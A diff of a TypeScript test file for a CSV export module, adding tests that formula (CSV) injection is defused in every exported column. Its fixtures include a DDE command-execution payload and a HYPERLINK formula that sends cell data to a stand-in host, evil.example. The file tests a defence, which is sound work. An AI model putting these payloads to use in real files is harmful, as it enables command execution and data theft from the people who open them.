@@ -1,15 +1,46 @@
 import { describe, expect, it } from 'vitest';
 import { order } from '../../tracker/__tests__/helpers';
-import { CSV_BOM, csvCell, ordersToCsv } from '../csv';
+import { CSV_BOM, numberCell, ordersToCsv, textCell } from '../csv';
+
+/** The cells of one CSV line, unquoted. */
+function cellsOf(line: string): string[] {
+  return [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1]!.replace(/^"([\s\S]*)"$/, '$1').replace(/""/g, '"')).slice(0, 15);
+}
 
 describe('CSV export', () => {
-  it('quotes commas, quotes and line breaks; defuses formulas in text only', () => {
-    expect(csvCell('a,b')).toBe('"a,b"');
-    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
-    expect(csvCell('two\nlines')).toBe('"two\nlines"');
-    expect(csvCell('=SUM(A1)', true)).toBe("'=SUM(A1)");
-    expect(csvCell('-3')).toBe('-3');
-    expect(csvCell(null)).toBe('');
+  it('quotes commas, quotes and line breaks; defuses every formula in text; numbers stay numbers', () => {
+    expect(textCell('a,b')).toBe('"a,b"');
+    expect(textCell('say "hi"')).toBe('"say ""hi"""');
+    expect(textCell('two\nlines')).toBe('"two\nlines"');
+    for (const formula of ['=SUM(A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '  =1']) expect(textCell(formula).replace(/^"/, '')).toMatch(/^'/);
+    expect(textCell('Instagram Followers')).toBe('Instagram Followers');
+    expect(textCell(null)).toBe('');
+    expect(numberCell(-20)).toBe('-20');
+    expect(numberCell('-0.5')).toBe('-0.5');
+    // Not an amount in the one money form: text, defused.
+    expect(numberCell('-2+3+cmd|" /C calc"!A0')).toBe(`"'-2+3+cmd|"" /C calc""!A0"`);
+  });
+
+  it('no column a panel fills can carry a formula into a spreadsheet', () => {
+    const evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
+    const o = order('p', '-1+1', {
+      service: { id: '@cmd', name: evil, type: 'Default', category: '', rate: '1', refill: null, cancel: null },
+      link: '+https://x.example',
+      currency: '=1+1',
+      statusText: '-1+1',
+      charge: '0.5',
+      remains: -20,
+      refills: [{ refillId: '=9', requestedAt: 0, status: 'pending', statusText: 'x', lastCheckedAt: null, missing: false }],
+    });
+    const line = ordersToCsv([o], [{ id: 'p', name: '@panel', apiUrl: 'https://p/api/v2', isDefault: true, lowBalanceThreshold: null, createdAt: 0 }]).slice(1).split('\r\n')[1]!;
+    const cells = cellsOf(line);
+    expect(cells).toHaveLength(15);
+    // The one cell that starts with a sign is the number -20 (remains after over-delivery).
+    expect(cells.filter((c) => /^\s*[=+\-@]|^[\t\r\n]/.test(c))).toEqual(['-20']);
+    expect(cells[0]).toBe("'-1+1");
+    expect(cells[2]).toBe("'@cmd");
+    expect(cells[9]).toBe('0.5');
+    expect(cells[10]).toBe("'=1+1");
   });
 
   it('one row per order with exact money, ISO dates and the panel’s name', () => {
